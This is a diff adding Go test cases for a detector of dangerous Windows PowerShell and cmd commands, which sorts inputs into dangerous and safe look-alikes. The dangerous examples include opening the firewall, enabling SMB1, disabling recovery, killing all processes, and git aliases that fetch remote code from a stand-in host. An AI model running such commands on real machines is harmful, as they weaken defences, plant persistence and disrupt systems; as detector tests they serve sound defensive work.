@@ -61,3 +61,44 @@ func TestWindowsWholeCacheDeleted(t *testing.T) {
 		`rd /s /q "%TEMP%\acme-build"`,
 	})
 }
+
+func TestWindowsProtectionsAndMachineState(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	cmdc := winCorpusContextFor("cmd")
+	checkDanger(t, d, ps, []dangerCase{
+		{`New-NetFirewallRule -DisplayName 'dev' -Direction Inbound -Action Allow`, CategorySystem, "win-firewall-inbound-any", LevelHigh},
+		{`Enable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol-Server`, CategorySystem, "win-smb1-on", LevelHigh},
+		{`Add-Computer -DomainName corp.example -Restart`, CategorySystem, "win-power-off", LevelHigh},
+		{`Restart-Service Spooler -Force`, CategorySystem, "win-service-stop", LevelModerate},
+		{`Stop-Service -Name W3SVC`, CategorySystem, "", LevelModerate},
+		{`New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore' -Name DisableConfig -Value 1`, CategorySystem, "", LevelHigh},
+		{`git config --global alias.co '!iwr https://t.example.net/p | Out-Null; git checkout'`, CategoryPersistence, "git-command-untrusted", LevelHigh},
+		{`git config --global core.pager 'C:\ProgramData\p.exe'`, CategoryPersistence, "git-command-untrusted", LevelHigh},
+	})
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`reagentc.exe /disable`, CategorySystem, "win-recovery-off", LevelHigh},
+		{`netsh interface portproxy add v4tov4 listenport=3389 connectaddress=10.1.2.3 connectport=3389`, CategorySystem, "win-firewall-inbound-any", LevelHigh},
+		{`wmic os call reboot`, CategorySystem, "win-power-off", LevelHigh},
+		{`rundll32 powrprof.dll,SetSuspendState Sleep`, CategorySystem, "win-power-off", LevelHigh},
+		{`net stop w3svc`, CategorySystem, "win-service-stop", LevelModerate},
+		{`taskkill /F /FI "PID gt 4"`, CategorySystem, "win-kill-everything", LevelHigh},
+		{`wsl.exe --shutdown`, CategoryContainerDestroy, "win-wsl-shutdown", LevelModerate},
+	})
+	checkSafe(t, d, ps, []string{
+		`New-NetFirewallRule -DisplayName 'dev server' -Direction Inbound -Action Allow -Protocol TCP -LocalPort 5173`,
+		`Get-WindowsOptionalFeature -Online -FeatureName SMB1Protocol`,
+		`Rename-Item .\old.txt new.txt`,
+		`Restart-Service -Name AcmeDevWorker`,
+		`Get-Service com.docker.service`,
+		`git config --global alias.lg 'log --oneline --graph'`,
+		`git config --global core.editor 'code --wait'`,
+	})
+	checkSafe(t, d, cmdc, []string{
+		`reagentc /info`,
+		`netsh interface portproxy show all`,
+		`net start w3svc`,
+		`wsl -l -v`,
+		`taskkill /F /FI "WINDOWTITLE eq acme-dev*"`,
+	})
+}
